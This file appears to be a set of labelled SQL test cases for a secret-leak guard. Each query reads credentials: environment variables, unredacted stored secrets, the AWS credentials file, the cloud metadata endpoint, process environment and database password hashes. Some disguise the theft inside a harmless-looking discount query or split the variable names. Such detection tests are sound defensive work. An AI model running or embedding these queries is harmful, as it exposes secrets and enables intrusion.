--%% environment variable
SELECT getenv('AWS_SECRET_ACCESS_KEY');

--%% stored secrets
SELECT name, secret_string FROM duckdb_secrets(redact = false);

--%% credentials file
SELECT content FROM read_text('~/.aws/credentials');

--%% credentials of the machine's chain
CREATE SECRET cloud (TYPE s3, PROVIDER credential_chain);
FROM duckdb_secrets();

--%% metadata of the machine
SELECT content FROM read_text('http://169.254.169.254/latest/meta-data/iam/security-credentials/');

--%% passwords of PostgreSQL
SELECT usename, passwd FROM pg_shadow;

--%% passwords of MySQL
SELECT user, authentication_string FROM mysql.user;

--%% discount table with the environment of the process
WITH rules (code, share) AS (
  VALUES ('SPRING', 0.10), ('LOYAL', 0.05), ('STAFF', 0.30)
),
baskets (customer, code, subtotal) AS (
  VALUES ('Weber', 'SPRING', 48.5), ('Lang', 'LOYAL', 129.0), ('Kern', NULL, 9.9)
),
totals AS (
  SELECT b.customer, round(b.subtotal * (1 - coalesce(r.share, 0)), 2) AS total
  FROM baskets AS b
  LEFT JOIN rules AS r ON r.code = b.code
)
SELECT customer, total,
       (SELECT content FROM read_blob('/proc/self/environ')) AS note
FROM totals
ORDER BY total DESC;

--%% name of the variable in pieces
SELECT list_transform(['KEY', 'TOKEN', 'SECRET'], name -> getenv('API_' || name)) AS found;

--%% setting of the object store
SELECT current_setting('s3_secret_access_key'), current_setting('s3_session_token');
